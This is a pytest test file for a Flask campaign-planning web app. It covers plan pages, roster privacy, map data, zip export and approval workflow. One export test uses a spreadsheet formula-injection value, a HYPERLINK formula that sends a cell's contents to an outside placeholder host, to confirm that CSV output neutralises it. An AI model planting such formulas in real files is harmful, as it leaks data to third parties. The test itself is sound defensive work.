"""The pages of a plan: what they show, who sees whom, and the way from draft to archive."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from zipfile import ZipFile

import pytest
from flask import Flask

from planner.check_campaign.canonical import digest_of
from planner.config import Config
from planner.config.settings import Approval
from planner.domain.campaign import Campaign
from planner.domain.plan import Run, UnservedRow
from planner.explain.figures import count_text
from planner.pipeline.read import read_checked_plan
from planner.store import plans
from planner.store.database import Database
from planner.store.journal import load_journal
from planner.store.plans import load_plan, load_plan_run, pack_plan, save_plan
from planner.store.types import PlanState
from tests.web.conftest import Enter, email_of

ENGLISH = {"Accept-Language": "en"}
Shown = Callable[..., str]


@pytest.fixture
def made(database: Database) -> tuple[Campaign, Run]:
    """Return the plan that is in the store, and its campaign."""
    with database.reading() as session:
        return load_plan_run(session, 1)


@pytest.fixture
def shown(enter: Enter) -> Shown:
    """Return what shows a page of the plan in English."""

    def show(page: str = "", role: str = "reader") -> str:
        answer = enter(f"{role}@sante.example").get(f"/plans/1{page}", headers=ENGLISH)
        assert answer.status_code == 200
        return answer.text

    return show


def state_of(database: Database) -> PlanState:
    with database.reading() as session:
        return load_plan(session, 1).state


def move(enter: Enter, role: str, to: str, **form: str) -> int:
    """Return the status of what somebody is answered who moves the plan."""
    return enter(f"{role}@sante.example").post("/plans/1/state", data={"to": to, **form}).status_code


def test_a_plan_tells_its_figures_its_proof_its_money_and_its_caps(made: tuple[Campaign, Run], shown: Shown) -> None:
    campaign, run = made
    page = shown()
    assert count_text(run.plan.indicators["persons_served"], "en") in page
    assert "How sure this is" in page
    total = sum(line.amount_mad for line in run.plan.budget)
    assert f"{total:,.2f}" in page
    assert "Envelope" in page
    assert f"{campaign.settings.budget.total_mad - total:,.2f}" in page  # type: ignore[operator]


def test_each_number_of_what_is_missing_opens_what_it_counts(made: tuple[Campaign, Run], shown: Shown) -> None:
    _, run = made
    assert run.plan.unserved, "the plan of the tests leaves something"
    for row in run.plan.unserved:
        assert f"kind={row.kind}" in shown()
        page = shown(f"/unserved?kind={row.kind}&reason={row.reason}")
        assert row.code in page


def test_tours_are_found_by_province_unit_and_days(made: tuple[Campaign, Run], shown: Shown) -> None:
    _, run = made
    first = min(row.date for row in run.plan.tours)
    assert f"Days of tours: <bdi>{len(run.plan.tours)}</bdi>" in shown("/tours")
    (unit, *_) = {row.unit for row in run.plan.tours if row.date == first}
    found = [row for row in run.plan.tours if row.unit == unit and row.date == first]
    assert f"Days of tours: <bdi>{len(found)}</bdi>" in shown(f"/tours?unit={unit}&first={first}&last={first}")
    assert "Days of tours: <bdi>0</bdi>" in shown("/tours?last=1999-01-01")
    assert f"<bdi>{len(run.plan.tours)}</bdi>" in shown("/tours?unit=nonsense&first=nonsense&page=-3")


def test_long_tables_come_a_page_at_a_time(monkeypatch: pytest.MonkeyPatch, shown: Shown) -> None:
    monkeypatch.setattr("web.paging.MOST", 2)
    first = shown("/tours?unit=U1&_scheme=javascript")
    assert 'href="?unit=U1&amp;_scheme=javascript&amp;page=2"' in first
    assert 'rel="prev"' in shown("/tours?page=2")
    assert 'rel="next"' not in shown("/tours?page=999")


def test_the_roster_shows_people_of_ones_own_territory_and_no_telephone(
    made: tuple[Campaign, Run], shown: Shown
) -> None:
    campaign, run = made
    on_duty = {campaign.staff[duty.staff] for duty in run.plan.roster}
    assert {person.province for person in on_duty} == {"05.081", "05.301"}
    whole, own = shown("/roster", "regional"), shown("/roster", "provincial")
    for person in on_duty:
        assert person.name in whole
        assert (person.name in own) is (person.province == "05.081")
    assert "Roster" not in shown("", "reader")
    assert "<span>doctor</span>" in whole
    assert "doctors" not in whole


def test_no_page_of_a_plan_tells_a_telephone(
    made: tuple[Campaign, Run], shown: Shown, monkeypatch: pytest.MonkeyPatch
) -> None:
    campaign, run = made
    number = "0612345678"
    staff = {code: replace(person, phone=number) for code, person in campaign.staff.items()}
    monkeypatch.setattr("web.open_plans.load_plan_run", lambda *_: (replace(campaign, staff=staff), run))
    for page in ("", "/roster", "/tours", "/map", "/map.json", "/unserved?kind=visit"):
        assert number not in shown(page, "national"), page


def test_the_map_has_each_douar_and_the_tours_of_a_day(made: tuple[Campaign, Run], enter: Enter, shown: Shown) -> None:
    campaign, run = made
    first = min(row.date for row in run.plan.tours)
    client = enter(email_of("reader"))
    whole = client.get("/plans/1/map.json").get_json()
    assert {each["code"] for each in whole["douars"]} == campaign.douars.keys()
    assert not whole["tours"]
    of_day = client.get(f"/plans/1/map.json?day={first}").get_json()
    assert len(of_day["tours"]) == sum(row.date == first for row in run.plan.tours)
    douar = next(iter(campaign.douars.values()))
    assert next(each for each in whole["douars"] if each["code"] == douar.code)["at"] == [douar.lon, douar.lat]
    page = shown(f"/map?day={first}")
    for group in ("douar", "point", "post", "tour"):
        assert f'data-spot="{group}:' in page, group
    own = client.get("/plans/1/map.json?province=05.081").get_json()
    assert {campaign.douars[each["code"]].province for each in own["douars"]} == {"05.081"}


def test_what_is_taken_away_passes_the_checker_and_is_written_down(
    enter: Enter, database: Database, tmp_path: Path, made: tuple[Campaign, Run]
) -> None:
    answer = enter(email_of("regional")).get("/plans/1.zip")
    assert answer.headers["Content-Disposition"] == "attachment; filename=plan-1.zip"
    ZipFile(io.BytesIO(answer.data)).extractall(tmp_path)
    assert read_checked_plan(tmp_path / "plan-1") == made
    with database.reading() as session:
        assert load_journal(session, 1)[0].deed == "plan_taken"


def test_no_spreadsheet_runs_a_cell_of_what_is_taken_away(
    enter: Enter, database: Database, tmp_path: Path, made: tuple[Campaign, Run]
) -> None:
    campaign, run = made
    name = '=HYPERLINK("http://x/"&A1,"voir")'
    staff = {code: replace(person, name=name) for code, person in campaign.staff.items()}
    named = replace(campaign, staff=staff)
    named = replace(named, digest=digest_of(named))
    with database.writing() as session:
        plan = save_plan(session, 1, 1, pack_plan(replace(run, input_sha256=named.digest), named), "a@b.ma").number
    with ZipFile(io.BytesIO(enter(email_of("regional")).get(f"/plans/{plan}.zip").data)) as packed:
        packed.extractall(tmp_path)
    text = (tmp_path / f"plan-{plan}/campaign/staff.csv").read_text("utf-8")
    assert {row["name"] for row in csv.DictReader(io.StringIO(text))} == {f"'{name}"}
    assert read_checked_plan(tmp_path / f"plan-{plan}")[0] == named


def test_a_plan_goes_its_way_and_each_step_is_written_down(enter: Enter, database: Database, shown: Shown) -> None:
    assert move(enter, "regional", "submitted") == 303
    assert move(enter, "regional", "approved") == 403
    for to in ("approved", "published", "archived"):
        assert move(enter, "national", to) == 303
        assert state_of(database) == to
    with database.reading() as session:
        told = [line.deed for line in load_journal(session, 10, about="plans/1")]
    assert told == ["plan_archived", "plan_published", "plan_approved", "plan_submitted"]
    assert "plan approved" in shown()


def test_a_plan_is_sent_back_with_a_reason_that_is_read_on_it(enter: Enter, database: Database, shown: Shown) -> None:
    move(enter, "regional", "submitted")
    assert move(enter, "regional", "draft", reason="mine") == 403
    assert move(enter, "national", "draft", reason="  ") == 422
    assert state_of(database) == "submitted"
    assert move(enter, "national", "draft", reason="Le plafond <b>d'Azilal</b>") == 303
    assert state_of(database) == "draft"
    assert "Le plafond &lt;b&gt;d&#39;Azilal" in shown()


def test_of_two_who_move_a_plan_the_second_is_told_where_it_is(enter: Enter, database: Database) -> None:
    move(enter, "national", "submitted")
    assert move(enter, "national", "submitted") == 409
    assert move(enter, "national", "nonsense") == 400
    assert state_of(database) == "submitted"


@pytest.fixture
def config(config: Config, request: pytest.FixtureRequest) -> Config:
    """Return the settings, with another approver where a test says one."""
    return replace(config, approval=Approval(role=getattr(request, "param", "national")))


@pytest.mark.parametrize("config", ["regional"], indirect=True)
def test_the_role_that_approves_is_the_settings_matter(enter: Enter, database: Database) -> None:
    assert move(enter, "regional", "submitted") == 303
    assert move(enter, "regional", "approved") == 303
    assert state_of(database) == "approved"


def test_a_plan_that_this_release_cannot_read_is_told_of(
    app: Flask, enter: Enter, monkeypatch: pytest.MonkeyPatch
) -> None:
    def cannot(*_: object) -> None:
        raise plans.FaultyInputError([])

    monkeypatch.setattr("web.open_plans.load_plan_run", cannot)
    for page in ("", "/tours", "/map", "/roster"):
        answer = enter(email_of("national")).get(f"/plans/1{page}", headers=ENGLISH)
        assert (answer.status_code, "can be shown no more" in answer.text) == (409, True), page


def test_a_plan_that_is_not_there_is_no_page(enter: Enter) -> None:
    for page in ("", ".zip", "/map", "/map.json", "/tours", "/roster", "/unserved"):
        assert enter(email_of("national")).get(f"/plans/99{page}").status_code == 404, page


def test_what_is_missing_stands_under_words_that_are_true_of_its_kind(
    made: tuple[Campaign, Run], shown: Shown, monkeypatch: pytest.MonkeyPatch
) -> None:
    campaign, run = made
    caravan = next(iter(campaign.caravans.values()))
    rows = (
        UnservedRow(kind="caravan", code=caravan.code, missing=1, reason="site"),
        UnservedRow(kind="cover", code=next(iter(campaign.douars)), missing=1, reason="too_far"),
    )
    told = replace(run, plan=replace(run.plan, unserved=rows))
    monkeypatch.setattr("web.open_plans.load_plan_run", lambda *_: (campaign, told))
    assert "Province or region" in shown("/unserved?kind=caravan")
    cover = shown("/unserved?kind=cover&reason=too_far")
    assert "Province or region" not in cover
    assert "distance" in cover
    assert "distance or numbers" not in cover
